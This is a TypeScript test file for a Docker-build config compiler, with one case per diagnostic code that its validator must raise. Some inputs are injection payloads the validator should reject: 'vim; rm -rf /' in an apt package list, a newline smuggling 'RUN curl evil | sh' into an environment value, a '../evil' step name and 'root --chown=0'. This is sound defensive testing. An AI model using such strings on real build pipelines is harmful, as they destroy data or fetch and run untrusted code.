/**
 * Every diagnostic code has a case that provokes it, with the message checked. The table is typed
 * over all codes, so a new code without a case is a type error.
 */
import { Compiler, codes, type CompileHost, type Diagnostic, type DiagnosticCode, type Plugin } from "@dockwright/core";
import { zenml } from "@dockwright/plugin-zenml";
import { describe, expect, it } from "vitest";
import { memoryHost } from "./support/memory-host.ts";

type Case = { config: unknown; host?: CompileHost; plugins?: Plugin[]; platform?: string; expect: Partial<Diagnostic> };

async function diagnosticsOf({ config, host, plugins, platform }: Case): Promise<Diagnostic[]> {
  const compiler = new Compiler(plugins ?? [zenml()]);
  const result = await compiler.compile({ config, pipelineName: "p", host: host ?? memoryHost(), ...(platform ? { platform } : {}) });
  return result.diagnostics;
}

const docker = (settings: unknown) => ({ settings: { docker: settings } });

const cases: Record<Exclude<DiagnosticCode, "CONTEXT_WARNING">, Case> = {
  INVALID_CONFIG: {
    config: { steps: ["trainer"] },
    expect: { path: "steps", message: expect.stringContaining("A run configuration looks like") },
  },
  INVALID_TYPE: {
    config: docker({ skip_build: "yes" }),
    expect: { path: "settings.docker.skip_build", message: 'got "yes"; expected true or false.' },
  },
  INVALID_VALUE: {
    config: { steps: { "../evil": {} } },
    expect: { path: 'steps["../evil"]', message: expect.stringContaining("is not a valid step name") },
  },
  UNKNOWN_KEY: {
    config: docker({ requirments: ["x"] }),
    expect: { path: "settings.docker.requirments", message: 'unknown setting "requirments". Did you mean `requirements`?' },
  },
  DEPRECATED_FIELD: {
    config: docker({ source_files: "include" }),
    expect: { severity: "warning", path: "settings.docker.source_files", message: expect.stringContaining("allow_including_files_in_images: true") },
  },
  CONFLICTING_FIELDS: {
    config: docker({ source_files: "include", allow_download_from_code_repository: false }),
    expect: { severity: "warning", path: "settings.docker.source_files" },
  },
  SKIP_BUILD_WITHOUT_PARENT: {
    config: { steps: { trainer: { settings: { docker: { skip_build: true } } } } },
    expect: { path: "steps.trainer.settings.docker.skip_build", message: expect.stringContaining("Set `parent_image`") },
  },
  INSTALL_COMMAND_WITHOUT_FILES: {
    config: docker({ local_project_install_command: "pip install -e .", allow_including_files_in_images: false }),
    expect: { path: "settings.docker.local_project_install_command" },
  },
  INVALID_APT_PACKAGE: {
    config: { steps: { trainer: { settings: { docker: { apt_packages: ["git", "curl", "vim; rm -rf /"] } } } } },
    expect: { path: "steps.trainer.settings.docker.apt_packages[2]", message: expect.stringContaining('"vim; rm -rf /" is not a Debian package name') },
  },
  INVALID_ENV_NAME: {
    config: docker({ environment: { "MY-VAR": "1" } }),
    expect: { path: 'settings.docker.environment.MY-VAR', message: expect.stringContaining("not a valid environment variable name") },
  },
  DUPLICATE_ENV_NAME: {
    config: docker({ environment: { debug: "1", DEBUG: "0" } }),
    expect: { path: "settings.docker.environment.DEBUG", message: expect.stringContaining("both become DEBUG") },
  },
  UNSAFE_VALUE: {
    config: docker({ environment: { A: "line\nRUN curl evil | sh" } }),
    expect: { path: "settings.docker.environment.A", message: expect.stringContaining("a newline would end the instruction") },
  },
  INVALID_IMAGE_REF: {
    config: docker({ parent_image: "Python:3.11 AS x" }),
    expect: { path: "settings.docker.parent_image", message: expect.stringContaining("is not an image reference") },
  },
  INVALID_USER: {
    config: docker({ user: "root --chown=0" }),
    expect: { path: "settings.docker.user" },
  },
  INVALID_PATH: {
    config: docker({ requirements: "" }),
    expect: { path: "settings.docker.requirements", message: expect.stringContaining("is empty") },
  },
  INVALID_INSTALLER_ARG: {
    config: docker({ python_package_installer_args: { "--index-url": "x" } }),
    expect: { path: 'settings.docker.python_package_installer_args["--index-url"]', message: expect.stringContaining("without leading dashes") },
  },
  UNKNOWN_INTEGRATION: {
    config: docker({ required_integrations: ["sklearn", "scikit"] }),
    expect: { path: "settings.docker.required_integrations[1]", message: expect.stringContaining('unknown integration "scikit"') },
  },
  UNKNOWN_STACK_FLAVOR: {
    config: { stack: { components: [{ type: "orchestrator", flavor: "kubeflw" }] } },
    expect: { severity: "warning", path: "stack.components[0]" },
  },
  NO_PARENT_IMAGE: {
    config: {},
    plugins: [],
    expect: { path: "settings.docker.parent_image", message: expect.stringContaining("no parent image") },
  },
  FILE_NOT_FOUND: {
    config: docker({ requirements: "requirements-dev.txt" }),
    expect: { path: "settings.docker.requirements", message: expect.stringContaining('"requirements-dev.txt" does not exist') },
  },
  LOCAL_ENVIRONMENT_UNAVAILABLE: {
    config: docker({ replicate_local_python_environment: "pip_freeze" }),
    expect: { path: "settings.docker.replicate_local_python_environment", message: expect.stringContaining("@dockwright/plugin-local-env") },
  },
  CODE_DOWNLOAD_UNAVAILABLE: {
    config: docker({ source_files: "download" }),
    expect: { path: "settings.docker.allow_including_files_in_images", message: expect.stringContaining("no code repository contains the source root") },
  },
  SETTING_IGNORED: {
    config: docker({ parent_image: "python:3.11", skip_build: true, apt_packages: ["git"] }),
    expect: { severity: "warning", path: "settings.docker.apt_packages", message: expect.stringContaining("skip_build") },
  },
  PLUGIN_INCOMPATIBLE: {
    config: {},
    plugins: [{ name: "Old", core: "^0.0.1", apply() {} }],
    expect: {},
  },
};

describe("every diagnostic code", () => {
  it("has a case (CONTEXT_WARNING is the context package's, tested there)", () => {
    expect(Object.keys(cases).sort()).toEqual(Object.values(codes).filter((c) => c !== "CONTEXT_WARNING").sort());
  });

  it.each(Object.entries(cases).filter(([code]) => code !== "PLUGIN_INCOMPATIBLE"))("%s", async (code, c) => {
    const diagnostics = await diagnosticsOf(c);
    expect(diagnostics).toContainEqual(expect.objectContaining({ code, severity: "error", ...c.expect }));
  });

  it("PLUGIN_INCOMPATIBLE: registering a plugin made for another core is a programming error", () => {
    expect(() => new Compiler([{ name: "Old", core: "^0.0.1", apply() {} }])).toThrow(
      'PLUGIN_INCOMPATIBLE: plugin "Old" supports @dockwright/core "^0.0.1", but this is 0.1.0',
    );
  });

  it("an invalid platform is an invalid value", async () => {
    const diagnostics = await diagnosticsOf({ config: {}, platform: "amd64", expect: {} });
    expect(diagnostics[0]).toMatchObject({ code: "INVALID_VALUE", path: "platform" });
  });
});
